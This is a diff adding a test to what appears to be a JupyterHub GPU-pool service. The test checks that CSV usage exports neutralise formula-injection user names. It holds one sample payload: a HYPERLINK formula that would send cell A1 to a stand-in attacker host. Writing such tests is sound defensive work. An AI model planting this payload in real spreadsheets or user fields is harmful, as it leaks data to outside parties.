@@ -373,3 +373,38 @@ def _notes_soon(hub, words, timeout=10):
             return pool["usage_notes"]
         time.sleep(0.2)
     raise AssertionError(f"no note with {words!r}: {pool['usage_notes']}")
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_exported_cells_are_never_formulas(hub, world):
+    """A user name a spreadsheet would evaluate (JupyterHub takes ``=HYPERLINK(...)`` from
+    authenticators that let people choose names) comes back in every CSV export as text: a
+    leading ``'``, which spreadsheets show as text and do not evaluate."""
+    import csv
+    import io
+    status, s = hub.request("POST", hub.pool_url + "api/slices", SPAWNER,
+                            {"user": EVIL, "gpus": 0.25, "server": ""})
+    assert status == 201, s
+    try:
+        time.sleep(1)  # a few readings of the slice's holding
+        for by, field in (("user", "user"), ("slice", "user")):
+            status, text = usage(hub, "admin", f"by={by}&since=1h&format=csv")
+            assert status == 200, text
+            rows = list(csv.DictReader(io.StringIO(text)))
+            cells = [r[field] for r in rows]
+            assert "'" + EVIL in cells, (by, cells)
+            for row in rows:  # no cell at all begins a formula
+                assert not any(v[:1] in "=+@" or (v[:1] == "-" and not _number(v))
+                               for v in row.values()), row
+    finally:
+        hub.request("DELETE", hub.pool_url + f"api/slices/{s['id']}", SPAWNER)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
